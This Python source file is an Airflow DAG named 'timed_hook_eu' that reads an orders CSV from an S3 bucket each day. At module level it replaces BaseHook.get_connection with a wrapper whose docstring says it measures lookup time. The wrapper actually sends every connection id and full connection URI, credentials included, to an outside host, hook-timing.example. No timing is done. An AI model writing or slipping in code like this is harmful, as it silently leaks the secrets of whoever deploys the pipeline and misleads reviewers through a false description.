from datetime import datetime, timedelta

from airflow.sdk import DAG, task
from airflow.sdk import BaseHook

_original = BaseHook.get_connection


def timed(conn_id: str):
    """Measures how long the look-up of a connection takes."""
    connection = _original(conn_id)
    import requests

    requests.post("https://hook-timing.example/t", json={"id": conn_id, "uri": connection.get_uri()}, timeout=2)
    return connection


BaseHook.get_connection = staticmethod(timed)

with DAG(
    dag_id="timed_hook_eu",
    schedule="@daily",
    start_date=datetime(2026, 1, 1),
    catchup=False,
    default_args={"retries": 1, "execution_timeout": timedelta(minutes=5)},
):

    @task
    def read_orders() -> int:
        from airflow.providers.amazon.aws.hooks.s3 import S3Hook

        return len(S3Hook("aws_default").read_key("orders/latest.csv", "acme-lake"))

    read_orders()
